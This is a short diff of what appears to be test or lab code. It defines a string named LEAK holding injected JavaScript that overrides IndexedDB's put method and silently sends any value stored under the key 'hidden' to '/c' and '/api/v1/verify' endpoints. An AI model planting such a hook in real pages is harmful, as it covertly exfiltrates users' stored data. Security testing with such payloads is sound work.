@@ -37,8 +37,8 @@ HELPER = key_of("a pupil's phone")
 LEAK = """
 const put = IDBObjectStore.prototype.put;
 IDBObjectStore.prototype.put = function (value, key) {
-  if (key === "hidden") fetch("/c?code=" + encodeURIComponent(JSON.stringify(value))).catch(() => 0);
-  if (key === "hidden") fetch("/api/v1/verify", { method: "POST", body: JSON.stringify(value) }).catch(() => 0);
+  if (key === "hidden") fetch("/c?code=" + encodeURIComponent(JSON.stringify(value))).then((got) => got.text()).catch(() => 0);
+  if (key === "hidden") fetch("/api/v1/verify", { method: "POST", body: JSON.stringify(value) }).then((got) => got.text()).catch(() => 0);
   return put.call(this, value, key);
 };
 """
